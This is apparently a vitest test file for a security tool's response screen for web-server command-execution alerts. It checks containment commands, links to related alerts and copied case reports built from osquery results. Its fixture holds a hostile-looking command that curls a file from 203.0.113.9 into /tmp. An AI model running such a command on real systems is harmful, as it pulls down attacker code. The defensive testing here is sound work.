// @vitest-environment jsdom
import { cleanup, screen, waitFor, within } from '@testing-library/react';
import { afterEach, expect, test } from 'vitest';
import { httpError, type Answers } from '../../test/browser_app/fake_http';
import { renderApp } from '../../test/browser_app/render_app';
import { NOW, toAlertOfProcess, toSampleAlert } from '../../test/browser_app/sample_alerts';
import { toSampleStory, toStoryProcess, toStoryTree } from '../../test/browser_app/sample_story';

afterEach(cleanup);

const SCRIPT = ['sh', '-c', 'curl http://203.0.113.9/x -o /tmp/x'];
const openRespond = (answers: Answers = {}) => {
  const alert = toAlertOfProcess('alert-1', { args: SCRIPT });
  return renderApp({
    path: '/alerts/alert-1?tab=respond',
    answers: {
      'GET /internal/web_server_rce/alerts/*': () => ({ alert }),
      'GET /internal/web_server_rce/alerts/*/story': () => ({
        story: toSampleStory({
          trees: [toStoryTree([toStoryProcess(0, SCRIPT, { isOfAlert: true })])],
        }),
      }),
      ...answers,
    },
  });
};
const findStep = async (place: number) =>
  within(await screen.findByTestId(`webServerRceStep-response-${place}`));

test('gives each step of the response what helps to do it, filled from the story', async () => {
  const { user, history } = openRespond();
  expect((await (await findStep(5)).findByTestId('webServerRceCommands')).textContent).toContain(
    'kill -KILL 4711'
  );
  expect((await findStep(6)).getByTestId('webServerRceCommands').textContent).toContain(
    'iptables -I OUTPUT -d 203.0.113.9 -j REJECT'
  );
  expect((await findStep(2)).getByTestId('webServerRceCommands').textContent).toContain('nft');
  expect((await findStep(12)).getByTestId('webServerRceTimes').textContent).toBe(
    'Detected 60 s after the event; acknowledged not yet and closed not yet after the alert.'
  );
  await user.click(
    (await findStep(3)).getByRole('button', { name: 'Show all alerts with 203.0.113.9' })
  );
  expect(new URLSearchParams(history.location.search).get('q')).toBe('203.0.113.9');
});

test('copies the whole case with a key', async () => {
  const { user, notices } = openRespond();
  await waitFor(() =>
    expect(screen.getByTestId('webServerRceCopyReport')).toHaveProperty('disabled', false)
  );
  screen.getByTestId('webServerRceCopyReport').focus();
  await user.keyboard('r');
  await waitFor(() => expect(notices.map(({ title }) => title)).toEqual(['Copied']));
  expect(await navigator.clipboard.readText()).toContain('# Command run through a web server');
});

/** The host was asked once, and answered by its own process and another. */
const toHostAnswers = (results: () => unknown): Answers => ({
  'GET /api/osquery/live_queries': () => ({
    data: {
      total: 1,
      items: [
        {
          _source: {
            '@timestamp': NOW,
            action_id: 'action-1',
            alert_ids: ['alert-1'],
            agents: ['agent-1'],
            queries: [{ action_id: 'query-1', query: 'SELECT pid, name FROM processes' }],
          },
        },
      ],
    },
  }),
  'GET /api/osquery/live_queries/*': () => ({
    data: {
      action_id: 'action-1',
      '@timestamp': NOW,
      status: 'completed',
      queries: [{ action_id: 'query-1', pending: 0, responded: 1, successful: 1, failed: 0 }],
    },
  }),
  'GET /api/osquery/live_queries/*/results/*': results,
});
const copyReport = async (answers: Answers): Promise<string> => {
  const { user } = openRespond(answers);
  await waitFor(() =>
    expect(screen.getByTestId('webServerRceCopyReport')).toHaveProperty('disabled', false)
  );
  await user.click(screen.getByTestId('webServerRceCopyReport'));
  return navigator.clipboard.readText();
};

test('reports what the host answered about the alert, and nothing else of it', async () => {
  const rows = [
    { pid: '4711', name: 'dash' },
    { pid: '1', name: 'systemd' },
  ];
  const report = await copyReport(
    toHostAnswers(() => ({
      data: { total: 2, edges: rows.map((osquery) => ({ _source: { osquery } })) },
    }))
  );
  expect(report).toContain('| pid | name |\n| --- | --- |\n| 4711 | dash |\n');
  expect(report).not.toContain('systemd');
  expect(report).not.toContain('could not be read');
});

test('says in the report that an answer of the host could not be read', async () => {
  const report = await copyReport(
    toHostAnswers(() => {
      throw httpError(500, { message: 'broken' });
    })
  );
  expect(report).toContain('could not be read');
});

/** The host listens on a port that it did not show three days before. */
const toListeners = (earlier: () => unknown): Answers => {
  const listen = (...ports: readonly string[]) => ({
    data: {
      total: ports.length,
      edges: ports.map((port) => ({
        _source: { osquery: { protocol: '6', address: '::', port } },
      })),
    },
  });
  const known = toHostAnswers(() => listen('80', '4444'));
  return {
    ...known,
    'GET /api/osquery/live_queries': (request) =>
      String(request.query?.['kuery']).startsWith('(queries.query')
        ? earlier()
        : known['GET /api/osquery/live_queries']?.(request),
    'GET /api/osquery/live_queries/*/results/earlier': () => listen('80'),
  };
};

test('reports a port first that the host did not show before, and what it was compared with', async () => {
  const before = new Date(Date.parse(toSampleAlert().eventTime) - 72 * 3_600_000).toISOString();
  const queries = [{ action_id: 'earlier', query: 'SELECT pid, name FROM processes' }];
  const item = { action_id: 'a', agents: ['agent-1'], '@timestamp': before, queries };
  const report = await copyReport(
    toListeners(() => ({ data: { total: 1, items: [{ _source: item }] } }))
  );
  expect(report).toContain('Rows that are new to it, the first ones: 1');
  expect(report).toContain('| --- |\n| 6 | \\:\\: | 4444 |\n');
  expect(report).not.toContain('| 80 |');
  expect(report).not.toContain('could not be read');
});

test('says in the report that earlier looks at the host could not be read', async () => {
  const report = await copyReport(
    toListeners(() => {
      throw httpError(403, { message: 'Forbidden' });
    })
  );
  expect(report).toContain('could not be read');
});
